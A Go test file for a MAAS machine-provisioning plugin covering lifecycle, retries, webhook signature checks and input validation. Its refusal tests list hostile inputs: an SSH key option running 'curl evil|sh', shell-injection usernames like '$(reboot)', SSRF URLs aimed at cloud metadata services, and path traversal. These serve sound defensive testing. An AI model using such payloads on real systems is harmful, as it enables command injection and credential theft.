package maas_test

import (
	"context"
	"encoding/base64"
	"errors"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/canonical/gomaasclient/entity"
	"github.com/canonical/gomaasclient/entity/event"
	"github.com/canonical/gomaasclient/entity/node"
	"github.com/hashicorp/go-hclog"
	yaml "go.yaml.in/yaml/v3"

	"github.com/gpuaas/gpuaas/agent/tasks"
	"github.com/gpuaas/gpuaas/plugins/maas"
	"github.com/gpuaas/gpuaas/plugins/maas/maassim"
	"github.com/gpuaas/gpuaas/sdk/base"
	"github.com/gpuaas/gpuaas/sdk/provisioner"
	"github.com/gpuaas/gpuaas/sdk/sdktest"
)

// conformance is the SDK conformance suite against h.
func conformance(h *harness) sdktest.ProvisionerSuite {
	suite := sdktest.ProvisionerSuite{
		Config: func(testing.TB) map[string]any { return h.config(nil) },
		Node: func(_ testing.TB, i int) provisioner.EnrollRequest {
			return provisioner.EnrollRequest{NodeID: h.machines[i], Tags: []string{"rack-a"}}
		},
		Provision: provisioner.ProvisionRequest{
			AllocationID:  "alloc-conformance",
			User:          provisioner.TenantUser{Username: "tenant1", UID: 2001, OrgID: "org-1", ProjectID: "proj-1"},
			SSHPublicKeys: []string{sshKeyAlice},
			Image:         "ubuntu/jammy",
		},
		OperationTimeout: h.timeout,
		Webhook: func(t testing.TB, nodeID string) provisioner.Webhook {
			ts := time.Now().Unix()
			return *signedWebhook(webhookSecret, ts, h.reportBody(t, nodeID, ts))
		},
	}
	if h.sim != nil {
		// A second simulator that is slow to list machines and to say its
		// version: Status of an unknown operation and Probe("") block.
		suite.SlowConfig = func(t testing.TB) map[string]any {
			slow := setup(t)
			slow.sim.SetLatency(10*time.Second, "machines/", "version/")
			return slow.config(nil)
		}
	}
	return suite
}

func TestConformance(t *testing.T) {
	t.Run("in-process", func(t *testing.T) {
		h := setup(t)
		conformance(h).Run(t, sdktest.InProcess(func(testing.TB) base.BasePlugin {
			return maas.New(hclog.NewNullLogger())
		}))
	})
	t.Run("binary", func(t *testing.T) {
		h := setup(t)
		conformance(h).Run(t, sdktest.Binary(sdktest.BuildBinary(t, "./cmd/gpuaas-plugin-maas")))
	})
}

// TestLifecycle follows one machine through its whole life: commissioning
// runs the installed script, whose webhook the driver verifies; the
// machine is enrolled, provisioned (the user data creates the tenant with
// its keys), deployed, released with disk erase, and Ready again.
func TestLifecycle(t *testing.T) {
	h := setup(t)
	ctx := testCtx(t)
	var d *maas.Driver
	var current atomic.Pointer[maas.Driver] // the driver the webhook receiver uses
	id := h.machines[1]
	if h.sim != nil {
		spec, err := maassim.NewMachine(maassim.SKUL40S, 7, "new")
		if err != nil {
			t.Fatal(err)
		}
		if id, err = h.sim.AddMachine(spec); err != nil {
			t.Fatal(err)
		}
		recv := newWebhookReceiver(t, current.Load)
		d = h.driver(t, map[string]any{"webhook_url": recv.srv.URL + "/api/v1/webhooks/maas/test"})
		current.Store(d)
		if script, ok := h.sim.Script(scriptName); !ok || !strings.Contains(string(script), recv.srv.URL) {
			t.Fatal("Configure did not install the commissioning script with the webhook URL")
		}
		_, err = d.Enroll(ctx, &provisioner.EnrollRequest{OperationID: opID(t, "early"), NodeID: id})
		if !errors.Is(err, base.ErrFailedPrecondition) {
			t.Fatalf("Enroll of a New machine: got %v, want ErrFailedPrecondition", err)
		}
		// The operator commissions the machine through the MAAS API.
		if _, err := h.client(t).Machine.Commission(id, &entity.MachineCommissionParams{}); err != nil {
			t.Fatal(err)
		}
		evs := recv.next(t)
		if len(evs) != 1 || evs[0].Type != provisioner.EventFacts || evs[0].NodeID != id || evs[0].Facts == nil {
			t.Fatalf("webhook events %+v", evs)
		}
		f := evs[0].Facts
		if len(f.GPUs) != 1 || f.GPUs[0].Count != 4 || f.GPUs[0].Model != "NVIDIA Corporation AD102GL [L40S]" ||
			f.CPU.Cores != spec.CPUCount || f.MemoryBytes != uint64(spec.MemoryMiB)<<20 || f.Pool != "l40s" || !slices.Contains(f.Tags, "l40s") {
			t.Fatalf("webhook facts %+v", f)
		}
	} else {
		d = h.driver(t, nil)
		t.Log("real MAAS: commissioning and its webhook are not exercised")
	}

	enrollOp := opID(t, "enroll")
	var enrolled *provisioner.Enrollment
	for deadline := time.Now().Add(h.timeout); ; {
		var err error
		enrolled, err = d.Enroll(ctx, &provisioner.EnrollRequest{OperationID: enrollOp, NodeID: id})
		if err == nil {
			break
		}
		if !errors.Is(err, base.ErrUnavailable) || time.Now().After(deadline) {
			t.Fatalf("Enroll: %v", err)
		}
		time.Sleep(10 * time.Millisecond) // still commissioning
	}
	if len(enrolled.Facts.GPUs) == 0 || enrolled.Facts.CPU.Cores == 0 || len(enrolled.Secret) < 32 {
		t.Fatalf("enrollment %+v", enrolled)
	}

	prov := provisionRequest(opID(t, "provision"), id)
	key2 := newKey(t, "alice@desk")
	prov.SSHPublicKeys = append(prov.SSHPublicKeys, key2)
	caKey := newKey(t, "gpuaas-ssh-ca")
	prov.SSHUserCAKeys = []string{caKey}
	op, err := d.Provision(ctx, prov)
	if err != nil {
		t.Fatalf("Provision: %v", err)
	}
	if op.State.Terminal() && op.State != provisioner.StateSucceeded {
		t.Fatalf("Provision: %+v", op)
	}
	done, seen := h.wait(t, d, prov.OperationID)
	if done.State != provisioner.StateSucceeded || done.Percent != 100 {
		t.Fatalf("provision ended %+v (seen %+v)", done, seen)
	}
	for i := 1; i < len(seen); i++ {
		if seen[i].Percent < seen[i-1].Percent {
			t.Errorf("progress went back: %+v", seen)
		}
	}
	if h.sim != nil {
		deploys := h.sim.Deploys(id)
		if len(deploys) != 1 {
			t.Fatalf("%d deploys, want 1", len(deploys))
		}
		checkUserData(t, deploys[0].UserData, "alice", 2001, []string{sshKeyAlice, key2}, caKey)
		if deploys[0].DistroSeries != "ubuntu/jammy" {
			t.Errorf("deployed %s", deploys[0].DistroSeries)
		}
	}
	if hl, err := d.Probe(ctx, id); err != nil || !hl.Healthy || !strings.Contains(hl.Message, "Deployed") {
		t.Fatalf("Probe of the deployed machine: %+v %v", hl, err)
	}

	rel := &provisioner.ReleaseRequest{OperationID: opID(t, "release"), NodeID: id, AllocationID: prov.AllocationID, Username: "alice", Mode: provisioner.ReleaseWipe}
	if _, err := d.Release(ctx, rel); err != nil {
		t.Fatalf("Release: %v", err)
	}
	done, seen = h.wait(t, d, rel.OperationID)
	if done.State != provisioner.StateSucceeded {
		t.Fatalf("release ended %+v", done)
	}
	m, err := h.client(t).Machine.Get(id)
	if err != nil || m.Status != node.StatusReady || m.Owner != "" {
		t.Fatalf("released machine: %+v %v", m, err)
	}
	if h.sim != nil {
		erasing := false
		for _, s := range seen {
			erasing = erasing || strings.HasPrefix(s.Message, "erasing disks")
		}
		if !erasing {
			t.Errorf("release never reported disk erasing: %+v", seen)
		}
	}
	evs, err := h.client(t).Events.Get(&entity.EventParams{ID: id, Level: event.DEBUG, Limit: "50"})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(evs.Events, func(e entity.Event) bool { return e.Type == "User erasing disk" }) {
		t.Error("MAAS did not erase the disks on release")
	}
}

// checkUserData parses deployed user data as cloud-init would.
func checkUserData(t *testing.T, userData, user string, uid int, keys []string, caKey string) {
	t.Helper()
	if !strings.HasPrefix(userData, "#cloud-config\n") {
		t.Fatalf("user data does not start with #cloud-config: %q", userData)
	}
	var doc struct {
		Users       []any `yaml:"users"`
		SSHPwauth   bool  `yaml:"ssh_pwauth"`
		DisableRoot bool  `yaml:"disable_root"`
		WriteFiles  []struct {
			Path    string `yaml:"path"`
			Content string `yaml:"content"`
		} `yaml:"write_files"`
	}
	if err := yaml.Unmarshal([]byte(userData), &doc); err != nil {
		t.Fatalf("user data is not YAML: %v\n%s", err, userData)
	}
	if len(doc.Users) != 2 || doc.Users[0] != "default" || doc.SSHPwauth || !doc.DisableRoot {
		t.Fatalf("user data %s", userData)
	}
	u, ok := doc.Users[1].(map[string]any)
	if !ok || u["name"] != user || u["uid"] != uid || u["lock_passwd"] != true || u["shell"] != "/bin/bash" {
		t.Fatalf("tenant user %+v", doc.Users[1])
	}
	got, _ := u["ssh_authorized_keys"].([]any)
	if len(got) != len(keys) {
		t.Fatalf("keys %v, want %v", got, keys)
	}
	for i, k := range keys {
		if got[i] != k {
			t.Errorf("key %d: %v, want %s", i, got[i], k)
		}
	}
	// The browser terminal's trust, as the node agent would install it.
	files := map[string]string{}
	for _, f := range doc.WriteFiles {
		files[f.Path] = f.Content
	}
	for p, want := range map[string]string{
		"/etc/ssh/gpuaas_user_ca.pub":           caKey + "\n",
		"/etc/ssh/sshd_config.d/60-gpuaas.conf": string(tasks.SSHDTrustConfig("/etc/ssh")),
		"/etc/ssh/gpuaas_principals/" + user:    user + "\n",
	} {
		if files[p] != want {
			t.Errorf("user data writes %s as %q, want %q", p, files[p], want)
		}
	}
}

func TestDeployFailure(t *testing.T) {
	h := setup(t)
	h.needSim(t)
	ctx := testCtx(t)
	d := h.driver(t, nil)
	id := h.machines[0]
	const reason = "Installation failed (refer to the installation log for more information)."
	if err := h.sim.InjectFailure(id, maassim.Failure{Deploy: reason}); err != nil {
		t.Fatal(err)
	}
	prov := provisionRequest(opID(t, "provision"), id)
	if _, err := d.Provision(ctx, prov); err != nil {
		t.Fatal(err)
	}
	done, _ := h.wait(t, d, prov.OperationID)
	if done.State != provisioner.StateFailed || !strings.Contains(done.Message, "Failed deployment: "+reason) {
		t.Fatalf("provision ended %+v, want failed with the MAAS reason", done)
	}
	// The core cleans the node and puts it back in the pool.
	rel := &provisioner.ReleaseRequest{OperationID: opID(t, "release"), NodeID: id, Mode: provisioner.ReleaseWipe}
	if _, err := d.Release(ctx, rel); err != nil {
		t.Fatal(err)
	}
	if done, _ := h.wait(t, d, rel.OperationID); done.State != provisioner.StateSucceeded {
		t.Fatalf("release after a failed deployment: %+v", done)
	}
}

func TestEraseFailure(t *testing.T) {
	h := setup(t)
	h.needSim(t)
	ctx := testCtx(t)
	d := h.driver(t, map[string]any{"erase_mode": "secure"})
	id := h.machines[0]
	prov := provisionRequest(opID(t, "provision"), id)
	if _, err := d.Provision(ctx, prov); err != nil {
		t.Fatal(err)
	}
	if done, _ := h.wait(t, d, prov.OperationID); done.State != provisioner.StateSucceeded {
		t.Fatalf("provision: %+v", done)
	}
	const reason = "Failed to erase disks: nvme0n1: secure erase aborted"
	if err := h.sim.InjectFailure(id, maassim.Failure{Erase: reason}); err != nil {
		t.Fatal(err)
	}
	rel := &provisioner.ReleaseRequest{OperationID: opID(t, "release"), NodeID: id, Username: "alice", Mode: provisioner.ReleaseWipe}
	if _, err := d.Release(ctx, rel); err != nil {
		t.Fatal(err)
	}
	done, _ := h.wait(t, d, rel.OperationID)
	if done.State != provisioner.StateFailed || !strings.Contains(done.Message, "Failed disk erasing: "+reason) {
		t.Fatalf("release ended %+v, want failed with the MAAS reason", done)
	}
	if again, err := d.Status(ctx, rel.OperationID); err != nil || again.State != provisioner.StateFailed {
		t.Fatalf("Status stays failed: %+v %v", again, err)
	}
	// An admin's force release after the disk is fixed: a new operation.
	if err := h.sim.InjectFailure(id, maassim.Failure{}); err != nil {
		t.Fatal(err)
	}
	force := &provisioner.ReleaseRequest{OperationID: opID(t, "force"), NodeID: id, Mode: provisioner.ReleaseWipe}
	if _, err := d.Release(ctx, force); err != nil {
		t.Fatal(err)
	}
	if done, _ := h.wait(t, d, force.OperationID); done.State != provisioner.StateSucceeded {
		t.Fatalf("force release: %+v", done)
	}
}

func TestUnavailable(t *testing.T) {
	cases := []struct {
		name    string
		fault   maassim.Fault
		call    func(ctx context.Context, d *maas.Driver, id string) error
		want    error // nil: the call succeeds after retries
		deploys int   // -1: not checked
	}{
		{
			name:  "transient 5xx on a read is retried",
			fault: maassim.Fault{Count: 2, Status: http.StatusServiceUnavailable, Path: "machines/"},
			call: func(ctx context.Context, d *maas.Driver, id string) error {
				_, err := d.Probe(ctx, id)
				return err
			},
			deploys: -1,
		},
		{
			name:  "persistent 5xx is ErrUnavailable",
			fault: maassim.Fault{Count: 100, Status: http.StatusBadGateway, Path: "machines/"},
			call: func(ctx context.Context, d *maas.Driver, id string) error {
				_, err := d.Probe(ctx, id)
				return err
			},
			want:    base.ErrUnavailable,
			deploys: -1,
		},
		{
			name:  "Retry-After is honoured",
			fault: maassim.Fault{Count: 1, Status: http.StatusServiceUnavailable, Path: "machines/", RetryAfter: 1},
			call: func(ctx context.Context, d *maas.Driver, id string) error {
				start := time.Now()
				_, err := d.Probe(ctx, id)
				if err == nil && time.Since(start) < time.Second {
					return errors.New("retried before Retry-After")
				}
				return err
			},
			deploys: -1,
		},
		{
			name:  "deploy refused with 5xx is tried again",
			fault: maassim.Fault{Count: 1, Status: http.StatusInternalServerError, Op: "deploy"},
			call: func(ctx context.Context, d *maas.Driver, id string) error {
				_, err := d.Provision(ctx, provisionRequest("op-5xx", id))
				return err
			},
			deploys: 1,
		},
		{
			name:  "deploy done but its answer lost is not repeated",
			fault: maassim.Fault{Count: 1, Status: http.StatusBadGateway, Op: "deploy", After: true},
			call: func(ctx context.Context, d *maas.Driver, id string) error {
				_, err := d.Provision(ctx, provisionRequest("op-lost", id))
				return err
			},
			deploys: 1,
		},
		{
			name:  "allocate answer lost: the machine is adopted",
			fault: maassim.Fault{Count: 1, Status: http.StatusGatewayTimeout, Op: "allocate", After: true},
			call: func(ctx context.Context, d *maas.Driver, id string) error {
				_, err := d.Provision(ctx, provisionRequest("op-alloc", id))
				return err
			},
			deploys: 1,
		},
		{
			name:  "MAAS down during provision is ErrUnavailable",
			fault: maassim.Fault{Count: 100, Status: http.StatusServiceUnavailable},
			call: func(ctx context.Context, d *maas.Driver, id string) error {
				_, err := d.Provision(ctx, provisionRequest("op-down", id))
				return err
			},
			want:    base.ErrUnavailable,
			deploys: 0,
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			h := setup(t)
			h.needSim(t)
			d := h.driver(t, nil)
			id := h.machines[0]
			if err := h.sim.InjectFault(c.fault); err != nil {
				t.Fatal(err)
			}
			err := c.call(testCtx(t), d, id)
			switch {
			case c.want == nil && err != nil:
				t.Fatalf("got %v, want success after retries", err)
			case c.want != nil && !errors.Is(err, c.want):
				t.Fatalf("got %v, want %v", err, c.want)
			}
			if c.deploys >= 0 {
				if got := len(h.sim.Deploys(id)); got != c.deploys {
					t.Fatalf("%d deploys, want %d", got, c.deploys)
				}
			}
		})
	}
}

func TestBadAPIKey(t *testing.T) {
	h := setup(t)
	parts := strings.Split(h.apiKey, ":")
	cases := []struct {
		name  string
		key   string
		want  error
		field string
	}{
		{"wrong token secret", parts[0] + ":" + parts[1] + ":not-the-secret", base.ErrUnauthenticated, ""},
		{"unknown token", parts[0] + ":nosuchtoken:" + parts[2], base.ErrUnauthenticated, ""},
		{"unknown consumer", "nosuchconsumer:" + parts[1] + ":" + parts[2], base.ErrUnauthenticated, ""},
		{"not three parts", "just-a-token", base.ErrInvalidArgument, "api_key"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			err := configure(t, maas.New(hclog.NewNullLogger()), h.config(map[string]any{"api_key": c.key}))
			if !errors.Is(err, c.want) {
				t.Fatalf("got %v, want %v", err, c.want)
			}
			var ce *base.ConfigError
			if c.field != "" && (!errors.As(err, &ce) || ce.Field != c.field) {
				t.Fatalf("got %v, want a config error naming %s", err, c.field)
			}
			if strings.Contains(err.Error(), parts[2]) {
				t.Fatal("the error message carries the API key's secret")
			}
		})
	}
}

func TestConfigRefusesBadValues(t *testing.T) {
	h := setup(t)
	cases := []struct {
		field string
		value any
	}{
		{"maas_url", "ftp://maas.example/MAAS"},
		{"maas_url", "http://169.254.169.254/latest/meta-data"},
		{"maas_url", "http://169.254.10.1:5240/MAAS"},
		{"maas_url", "http://[fe80::1]:5240/MAAS"},
		{"maas_url", "http://[fe80::1%25eth0]:5240/MAAS"},
		{"maas_url", "http://[::ffff:169.254.169.254]/MAAS"},
		{"maas_url", "http://metadata.google.internal/computeMetadata/v1/"},
		{"maas_url", "http://100.100.100.200/"},
		{"maas_url", "http://0.0.0.0:5240/MAAS"},
		{"maas_url", "http://user:pass@maas.example/MAAS"},
		{"maas_url", "file:///etc/passwd"},
		{"webhook_url", "http://169.254.169.254/hook"},
		{"webhook_url", "gopher://core.example/hook"},
		{"webhook_secret", "too-short"},
		{"webhook_secret", strings.Repeat("x", 40) + "\n"},
		{"erase_mode", "shred"},
		{"default_image", "windows/2022"},
		{"images", []string{"ubuntu/jammy", "rm -rf"}},
		{"retries", 11},
		{"webhook_tolerance", "0s"},
		{"script_name", "../evil"},
		{"ca_cert", "not a certificate"},
	}
	for _, c := range cases {
		t.Run(c.field+"="+strings.ReplaceAll(strings.TrimSpace(toString(c.value)), "/", "|"), func(t *testing.T) {
			err := configure(t, maas.New(hclog.NewNullLogger()), h.config(map[string]any{c.field: c.value}))
			var ce *base.ConfigError
			if !errors.As(err, &ce) || ce.Field != c.field || !errors.Is(err, base.ErrInvalidArgument) {
				t.Fatalf("got %v, want a config error naming %s", err, c.field)
			}
		})
	}
}

func toString(v any) string {
	switch v := v.(type) {
	case string:
		return v
	case []string:
		return strings.Join(v, ",")
	}
	return "value"
}

func TestProvisionOnce(t *testing.T) {
	h := setup(t)
	ctx := testCtx(t)
	d := h.driver(t, nil)
	id := h.machines[0]
	prov := provisionRequest(opID(t, "provision"), id)

	// Retries arrive while the first call runs, and after it.
	var wg sync.WaitGroup
	errs := make(chan error, 3)
	for i := 0; i < 3; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := d.Provision(ctx, prov)
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Fatalf("Provision: %v", err)
		}
	}
	if _, err := d.Provision(ctx, prov); err != nil {
		t.Fatalf("Provision retried: %v", err)
	}
	// The core rotated its SSH CA between two attempts: the retry carries
	// the new CA key and is the same operation.
	rotated := *prov
	rotated.SSHUserCAKeys = []string{newKey(t, "gpuaas-user-ca")}
	if _, err := d.Provision(ctx, &rotated); err != nil {
		t.Fatalf("Provision retried with another SSH CA key: %v", err)
	}
	other := *prov
	other.SSHPublicKeys = []string{newKey(t, "mallory@elsewhere")}
	if _, err := d.Provision(ctx, &other); !errors.Is(err, base.ErrConflict) {
		t.Fatalf("same operation id, other keys: got %v, want ErrConflict", err)
	}
	busy := provisionRequest(opID(t, "busy"), id)
	if _, err := d.Provision(ctx, busy); !errors.Is(err, base.ErrFailedPrecondition) {
		t.Fatalf("another operation on a held machine: got %v, want ErrFailedPrecondition", err)
	}

	// The driver restarts: a new process knows nothing but MAAS.
	restarted := h.driver(t, nil)
	if _, err := restarted.Provision(ctx, prov); err != nil {
		t.Fatalf("Provision after a restart: %v", err)
	}
	if done, _ := h.wait(t, restarted, prov.OperationID); done.State != provisioner.StateSucceeded {
		t.Fatalf("provision: %+v", done)
	}
	if _, err := restarted.Provision(ctx, &other); !errors.Is(err, base.ErrConflict) {
		t.Fatalf("after a restart, same operation id, other keys: got %v, want ErrConflict", err)
	}
	if _, err := restarted.Provision(ctx, &rotated); err != nil {
		t.Fatalf("after a restart, retried with another SSH CA key: %v", err)
	}
	if h.sim != nil {
		if got := len(h.sim.Deploys(id)); got != 1 {
			t.Fatalf("%d deploys for one operation, want 1", got)
		}
	}

	rel := &provisioner.ReleaseRequest{OperationID: opID(t, "release"), NodeID: id, Username: "alice", Mode: provisioner.ReleaseWipe}
	if _, err := restarted.Release(ctx, rel); err != nil {
		t.Fatal(err)
	}
	if _, err := restarted.Release(ctx, rel); err != nil {
		t.Fatalf("Release retried: %v", err)
	}
	if done, _ := h.wait(t, restarted, rel.OperationID); done.State != provisioner.StateSucceeded {
		t.Fatalf("release: %+v", done)
	}
	// Another restart: both operations are found in MAAS's event log.
	again := h.driver(t, nil)
	for _, op := range []string{prov.OperationID, rel.OperationID} {
		st, err := again.Status(ctx, op)
		if err != nil || st.State != provisioner.StateSucceeded || st.NodeID != id {
			t.Fatalf("Status(%s) after a restart: %+v %v", op, st, err)
		}
	}
	if _, err := again.Release(ctx, rel); err != nil {
		t.Fatalf("Release retried after a restart: %v", err)
	}
	if st, err := again.Status(ctx, rel.OperationID); err != nil || st.State != provisioner.StateSucceeded {
		t.Fatalf("Status after a retried release: %+v %v", st, err)
	}
	if h.sim != nil {
		releases := 0
		for _, c := range h.sim.Calls() {
			if c.Op == "release" && c.Status == http.StatusOK {
				releases++
			}
		}
		if releases != 1 {
			t.Fatalf("%d release calls, want 1", releases)
		}
	}
}

func TestWebhookVerification(t *testing.T) {
	h := setup(t)
	ctx := testCtx(t)
	d := h.driver(t, nil)
	id := h.machines[0]
	now := time.Now().Unix()
	body := h.reportBody(t, id, now)
	good := signedWebhook(webhookSecret, now, body)
	cases := []struct {
		name string
		hook func() *provisioner.Webhook
		want error
	}{
		{"valid", func() *provisioner.Webhook { return good }, nil},
		{"wrong secret", func() *provisioner.Webhook {
			return signedWebhook("another-secret-of-enough-length-0123456789", now, body)
		}, base.ErrUnauthenticated},
		{"stale", func() *provisioner.Webhook {
			old := now - 600
			return signedWebhook(webhookSecret, old, h.reportBody(t, id, old))
		}, base.ErrUnauthenticated},
		{"from the future", func() *provisioner.Webhook {
			later := now + 600
			return signedWebhook(webhookSecret, later, h.reportBody(t, id, later))
		}, base.ErrUnauthenticated},
		{"timestamp header changed", func() *provisioner.Webhook {
			w := signedWebhook(webhookSecret, now, body)
			w.Header.Set(maas.TimestampHeader, "1")
			return w
		}, base.ErrUnauthenticated},
		{"body changed", func() *provisioner.Webhook {
			w := signedWebhook(webhookSecret, now, body)
			w.Body = []byte(strings.Replace(string(body), `"count":`, `"count":1`, 1))
			return w
		}, base.ErrUnauthenticated},
		{"no signature", func() *provisioner.Webhook {
			w := signedWebhook(webhookSecret, now, body)
			w.Header.Del(maas.SignatureHeader)
			return w
		}, base.ErrUnauthenticated},
		{"signature not hex", func() *provisioner.Webhook {
			w := signedWebhook(webhookSecret, now, body)
			w.Header.Set(maas.SignatureHeader, "sha256=zz")
			return w
		}, base.ErrUnauthenticated},
		{"signed garbage", func() *provisioner.Webhook { return signedWebhook(webhookSecret, now, []byte("not json")) }, base.ErrInvalidArgument},
		{"body timestamp differs", func() *provisioner.Webhook {
			return signedWebhook(webhookSecret, now, h.reportBody(t, id, now-10))
		}, base.ErrInvalidArgument},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			evs, err := d.HandleWebhook(ctx, c.hook())
			if c.want == nil {
				if err != nil || len(evs) != 1 || evs[0].NodeID != id || evs[0].Facts == nil || len(evs[0].Facts.GPUs) == 0 {
					t.Fatalf("got %+v %v", evs, err)
				}
				return
			}
			if !errors.Is(err, c.want) {
				t.Fatalf("got %v, want %v", err, c.want)
			}
		})
	}
	t.Run("unknown machine", func(t *testing.T) {
		body := h.reportBody(t, id, now)
		body = []byte(strings.Replace(string(body), `"system_id":"`+id+`"`, `"system_id":"zzzzzz"`, 1))
		_, err := d.HandleWebhook(ctx, signedWebhook(webhookSecret, now, body))
		if !errors.Is(err, base.ErrNotFound) {
			t.Fatalf("got %v, want ErrNotFound", err)
		}
	})
}

func TestProvisionRefusesBadInput(t *testing.T) {
	h := setup(t)
	ctx := testCtx(t)
	d := h.driver(t, nil)
	id := h.machines[0]
	cases := []struct {
		name string
		edit func(r *provisioner.ProvisionRequest)
	}{
		{"root", func(r *provisioner.ProvisionRequest) { r.User.Username = "root" }},
		{"ubuntu", func(r *provisioner.ProvisionRequest) { r.User.Username = "ubuntu" }},
		{"upper case", func(r *provisioner.ProvisionRequest) { r.User.Username = "Alice" }},
		{"command substitution", func(r *provisioner.ProvisionRequest) { r.User.Username = "$(reboot)" }},
		{"semicolon", func(r *provisioner.ProvisionRequest) { r.User.Username = "a;rm" }},
		{"newline", func(r *provisioner.ProvisionRequest) { r.User.Username = "alice\nroot" }},
		{"too long", func(r *provisioner.ProvisionRequest) { r.User.Username = strings.Repeat("a", 33) }},
		{"system uid", func(r *provisioner.ProvisionRequest) { r.User.UID = 999 }},
		{"no keys", func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = nil }},
		{"not a key", func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = []string{"hello"} }},
		{"key options", func(r *provisioner.ProvisionRequest) {
			r.SSHPublicKeys = []string{`command="curl evil|sh" ` + sshKeyAlice}
		}},
		{"comment with shell", func(r *provisioner.ProvisionRequest) {
			r.SSHPublicKeys = []string{strings.TrimSuffix(sshKeyAlice, " alice@laptop") + " x;$(id)"}
		}},
		{"two lines in one key", func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = []string{sshKeyAlice + "\n" + sshKeyAlice} }},
		{"unknown image", func(r *provisioner.ProvisionRequest) { r.Image = "ubuntu/bionic" }},
		{"node path", func(r *provisioner.ProvisionRequest) { r.NodeID = "../users" }},
		{"org id with quotes", func(r *provisioner.ProvisionRequest) { r.User.OrgID = `org"1` }},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			req := provisionRequest(opID(t, "p"), id)
			c.edit(req)
			if _, err := d.Provision(ctx, req); !errors.Is(err, base.ErrInvalidArgument) {
				t.Fatalf("got %v, want ErrInvalidArgument", err)
			}
		})
	}
	if h.sim != nil {
		if n := len(h.sim.Deploys("")); n != 0 {
			t.Fatalf("%d deploys after refused requests", n)
		}
	}
}

func TestEnrollRefusals(t *testing.T) {
	h := setup(t)
	ctx := testCtx(t)
	d := h.driver(t, nil)
	id := h.machines[0]
	cases := []struct {
		name string
		req  provisioner.EnrollRequest
		want error
	}{
		{"unknown machine", provisioner.EnrollRequest{NodeID: "nosuch"}, base.ErrNotFound},
		{"address of another machine", provisioner.EnrollRequest{NodeID: id, Address: "some-other-host"}, base.ErrInvalidArgument},
		{"other pool", provisioner.EnrollRequest{NodeID: id, Pool: "no-such-pool"}, base.ErrFailedPrecondition},
		{"bad tag", provisioner.EnrollRequest{NodeID: id, Tags: []string{"a b"}}, base.ErrInvalidArgument},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			req := c.req
			req.OperationID = opID(t, "enroll")
			if _, err := d.Enroll(ctx, &req); !errors.Is(err, c.want) {
				t.Fatalf("got %v, want %v", err, c.want)
			}
		})
	}
	t.Run("by host name", func(t *testing.T) {
		m, err := h.client(t).Machine.Get(id)
		if err != nil {
			t.Fatal(err)
		}
		e, err := d.Enroll(ctx, &provisioner.EnrollRequest{OperationID: opID(t, "enroll"), NodeID: id, Address: m.FQDN, Pool: m.Pool.Name})
		if err != nil || e.Facts.NodeID != id || e.Facts.Pool != m.Pool.Name || e.Facts.Hostname != m.Hostname {
			t.Fatalf("got %+v %v", e, err)
		}
		if h.sim != nil && (len(e.Facts.GPUs) != 1 || e.Facts.GPUs[0].Count != 8 || e.Facts.GPUs[0].MemoryBytes != 80<<30) {
			t.Fatalf("GPUs from MAAS's PCI devices: %+v", e.Facts.GPUs)
		}
	})
}

func TestReleaseModes(t *testing.T) {
	h := setup(t)
	ctx := testCtx(t)
	cases := []struct {
		erase string
		modes []provisioner.ReleaseMode
	}{
		{"secure", []provisioner.ReleaseMode{provisioner.ReleaseWipe, provisioner.ReleaseReimage}},
		{"quick", []provisioner.ReleaseMode{provisioner.ReleaseWipe, provisioner.ReleaseReimage}},
		{"none", []provisioner.ReleaseMode{provisioner.ReleaseReimage}},
	}
	for _, c := range cases {
		t.Run(c.erase, func(t *testing.T) {
			d := h.driver(t, map[string]any{"erase_mode": c.erase})
			caps, err := d.Capabilities(ctx)
			if err != nil || !slices.Equal(caps.ReleaseModes, c.modes) || !slices.Equal(caps.Images, []string{"ubuntu/jammy", "ubuntu/noble"}) {
				t.Fatalf("capabilities %+v %v", caps, err)
			}
			_, err = d.Release(ctx, &provisioner.ReleaseRequest{OperationID: opID(t, "r"), NodeID: h.machines[0], Mode: provisioner.ReleaseRevoke})
			if !errors.Is(err, base.ErrInvalidArgument) {
				t.Fatalf("revoke: got %v", err)
			}
			if c.erase == "none" {
				_, err = d.Release(ctx, &provisioner.ReleaseRequest{OperationID: opID(t, "w"), NodeID: h.machines[0], Mode: provisioner.ReleaseWipe})
				if !errors.Is(err, base.ErrInvalidArgument) {
					t.Fatalf("wipe without erase: got %v", err)
				}
			}
		})
	}
}

func TestScriptInstall(t *testing.T) {
	h := setup(t)
	history := func() int {
		sc, err := h.client(t).NodeScript.Get(scriptName, true)
		if err != nil {
			t.Fatal(err)
		}
		data, err := base64.StdEncoding.DecodeString(sc.History[0].Data)
		if err != nil || !strings.Contains(string(data), "WEBHOOK_SECRET=") {
			t.Fatalf("stored script %q %v", data, err)
		}
		if sc.Type != entity.ScriptTypeCommissioning {
			t.Fatalf("script type %d", sc.Type)
		}
		return len(sc.History)
	}
	d := h.driver(t, nil)
	first := history()
	if err := configure(t, d, h.config(nil)); err != nil {
		t.Fatal(err)
	}
	if got := history(); got != first {
		t.Fatalf("configuring again with the same settings changed the script: %d revisions, had %d", got, first)
	}
	if err := configure(t, d, h.config(map[string]any{"webhook_secret": webhookSecret + "-rotated"})); err != nil {
		t.Fatal(err)
	}
	if got := history(); got != first+1 {
		t.Fatalf("a rotated secret left %d revisions, want %d", got, first+1)
	}
	if err := configure(t, d, h.config(nil)); err != nil { // leave the suite's secret in place
		t.Fatal(err)
	}
}
